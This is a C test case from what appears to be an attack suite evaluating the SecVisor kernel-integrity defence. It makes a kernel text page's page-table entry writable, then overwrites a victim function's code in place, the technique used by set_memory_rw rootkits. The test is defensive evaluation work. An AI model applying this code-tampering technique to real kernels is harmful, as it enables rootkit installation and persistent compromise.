// Row 6. The writable bit of kernel text's own page-table entry is set, then the text written in place.
// Source: set_memory_rw rootkits.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("text-entry-writable")
{
	u64 at = symbol(VICTIM);
	u8 approved[CODE_LENGTH];
	long before = victim();

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	u64 value, entry = entry_of(at, &value, 0);

	poke(entry, value | WRITABLE);
	flush(0);
	operate(VULNERABLE_STORE, at, *(const u64 *)CODE, 8);
	operate(VULNERABLE_STORE, at + 8, *(const u16 *)(CODE + 8), 2);
	judge_victim(before, approved, "in place, its entry writable");
}
